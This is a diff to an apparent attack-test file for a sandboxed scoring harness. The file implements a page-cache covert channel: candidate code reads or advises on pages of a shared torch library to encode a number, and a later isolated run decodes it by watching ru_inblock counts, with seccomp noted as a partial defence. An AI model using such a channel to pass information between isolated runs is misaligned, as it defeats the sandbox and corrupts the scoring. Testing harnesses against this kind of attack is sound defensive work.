@@ -1,95 +1,97 @@
-"""Attack: a note in the page cache of the image, which outlives its writer: for each bit one page
-of a large library is read or not; the reader maps the page eight before it, and sees in its own
-/proc/self/pagemap whether the kernel mapped that neighbour too, as it does with cached ones alone.
+"""Attack: a note in the page cache of the image, which outlives its writer: for each bit of the
+number one page of a large library is read or not; who reads it later has the kernel count whether
+it came from the disk.
 
-Expected: scored, with exactly what an honest candidate pays.
-Defence: none under runc: refusing mincore, fadvise, readahead and preadv2 leaves this way.
-Control: none needed: the attack works.
+Expected: crash for calls that bring pages in unread. By reading alone: scored, and the second predictor may know the number.
+Defence: the seccomp list refuses those calls; none under runc against reading.
+Control: without the list the same calls carry the number.
 """
 
 import ctypes
 import json
 import mmap
 import os
-import struct
+import resource
 
 import numpy as np
 
 LIBRARY = "/opt/sealed/venv/lib/python3.11/site-packages/torch/lib/libtorch_cpu.so"
-PAGE, WINDOW, NEIGHBOUR = 4096, 16, 8
-BITS = 30
-SCORINGS = 2
-PRIVATE, FIXED = 0x02, 0x100000
-ADVISE_RANDOM = 1
+SEND = "read"  # or "advice", "fadvise", "readahead"
+PAGE, WINDOW = 4096, 16
+"""In bytes, and in pages: what lies apart is not read ahead."""
+PROBED, WRITTEN = 4, 12
+"""In its window: the page that tells whether a window is cold, and the one that is a bit."""
+BITS, MARKS, SCORINGS = 30, 3, 2
+ADVICE_WILLNEED = 3
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long)
+libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
+libc.readahead.argtypes = (ctypes.c_int, ctypes.c_long, ctypes.c_size_t)
 
 
 class Library:
-    """The library, mapped afresh at an address where windows of 64 KiB begin as in the file."""
-
-    hint = 0x600000000000
+    """The library, mapped and open."""
 
     def __init__(self):
-        libc = ctypes.CDLL(None)
-        libc.mmap.restype = ctypes.c_void_p
-        libc.mmap.argtypes = (
-            [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
-        )
-        libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
-        descriptor = os.open(LIBRARY, os.O_RDONLY)
-        size = os.fstat(descriptor).st_size
-        flags = mmap.MAP_SHARED | FIXED
-        self.address = libc.mmap(Library.hint, size, mmap.PROT_READ, flags, descriptor, 0)
-        Library.hint += 1 << 32
-        libc.madvise(self.address, size, ADVISE_RANDOM)
+        self.descriptor = os.open(LIBRARY, os.O_RDONLY)
+        size = os.fstat(self.descriptor).st_size
+        self.address = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_SHARED, self.descriptor, 0)
         self.windows = size // PAGE // WINDOW
-        self.pagemap = os.open("/proc/self/pagemap", os.O_RDONLY)
 
-    def touch(self, page):
-        ctypes.string_at(self.address + page * PAGE, 1)
+    def read(self, page):
+        """Whether the page was there before it was read."""
+        before = resource.getrusage(resource.RUSAGE_SELF).ru_inblock
+        os.pread(self.descriptor, 1, page * PAGE)
+        return resource.getrusage(resource.RUSAGE_SELF).ru_inblock == before
 
-    def neighbour_cached(self, window):
-        self.touch(window * WINDOW)
-        page = self.address // PAGE + window * WINDOW + NEIGHBOUR
-        return struct.unpack("<Q", os.pread(self.pagemap, 8, page * 8))[0] >> 63
+    def bring(self, window):
+        page = window * WINDOW + WRITTEN
+        failed = 0
+        if SEND == "read":
+            self.read(page)
+        elif SEND == "advice":
+            failed = libc.madvise(self.address + page * PAGE, PAGE, ADVICE_WILLNEED)
+        elif SEND == "fadvise":
+            os.posix_fadvise(self.descriptor, page * PAGE, PAGE, os.POSIX_FADV_WILLNEED)
+        else:
+            failed = libc.readahead(self.descriptor, page * PAGE, PAGE)
+        if failed:
+            raise OSError(ctypes.get_errno(), "refused")
 
 
 def train(data, artifact, seed, seconds):
     library = Library()
     cold = []
     for window in range(library.windows):
-        if not library.neighbour_cached(window):
+        if len(cold) < SCORINGS * BITS + 2 * MARKS and not library.read(window * WINDOW + PROBED):
             cold.append(window)
-        if len(cold) == 2 * BITS * SCORINGS:
-            break
     (artifact / "cold").write_text(json.dumps(cold))
 
 
 def load(artifact):
     cold = json.loads((artifact / "cold").read_text())
+    marks = {"remember": cold[:MARKS], "recall": cold[MARKS : 2 * MARKS]}
 
-    def parts(scoring):
-        """Windows for the bits of one scoring, and as many that say whether they are written."""
-        start = 2 * BITS * scoring
-        return cold[start : start + BITS], cold[start + BITS : start + 2 * BITS]
-
-    def written(library, scoring):
-        marks = [library.neighbour_cached(window) for window in parts(scoring)[1]]
-        return sum(marks) > BITS // 2
+    def bits(library, ask):
+        """The windows of the scoring that is on: a look at the marks sets them."""
+        seen = [library.read(window * WINDOW + WRITTEN) for window in marks[ask]]
+        start = 2 * MARKS + (BITS if sum(seen) > MARKS // 2 else 0)
+        return cold[start : start + BITS]
 
     def remember(number):
         library = Library()
-        scoring = next((n for n in range(SCORINGS) if not written(library, n)), 0)
-        bits, marks = parts(scoring)
-        for window in [*marks, *(w for n, w in enumerate(bits) if number >> n & 1)]:
-            library.touch(window * WINDOW + NEIGHBOUR)
+        for n, window in enumerate(bits(library, "remember")):
+            if number >> n & 1:
+                library.bring(window)
 
     def recall():
         library = Library()
-        for scoring in reversed(range(SCORINGS)):
-            if written(library, scoring):
-                cached = [library.neighbour_cached(window) for window in parts(scoring)[0]]
-                return sum(bit << n for n, bit in enumerate(cached))
-        return 0
+        return sum(
+            library.read(window * WINDOW + WRITTEN) << n
+            for n, window in enumerate(bits(library, "recall"))
+        )
 
     def answer(question):
         if question["ask"] == "remember":
